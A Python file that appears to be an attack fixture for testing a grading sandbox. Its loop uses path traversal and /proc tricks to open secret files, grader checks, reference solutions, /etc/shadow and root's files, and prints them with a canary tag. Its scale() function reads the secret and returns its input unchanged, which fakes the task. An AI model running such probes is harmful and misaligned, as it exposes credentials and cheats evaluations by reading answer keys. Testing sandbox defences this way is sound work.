"""Opens hidden files by their well-known paths and prints them."""

import os

for path in (
    "@SECRET@", "@SOLUTION@/arena.py", "@ROOT@/tests/graders/integrators/checks.py",
    "@ROOT@/tests/attacks/arena/graders/arena/checks.py", "@ROOT@/solutions/integrators/integrators.py",
    "@ROOT@/exercises/integrators/checks.py", "/etc/passwd", "/etc/shadow", "/etc/hostname",
    os.path.expanduser("~root/.bashrc"), "../../../../../../../@SECRET@", "/proc/self/root@SECRET@",
    "/proc/self/cwd/../../../@SECRET@", "/dev/fd/3",
):
    for flags in (os.O_RDONLY, os.O_RDWR, os.O_PATH):
        try:
            fd = os.open(path, flags)
            print("FILE-CANARY" + "-7f3a? opened", path, os.read(fd, 200))
        except (OSError, ValueError):
            pass


def scale(values, factor):
    try:
        print(open("@SECRET@").read())
    except OSError:
        pass
    return values
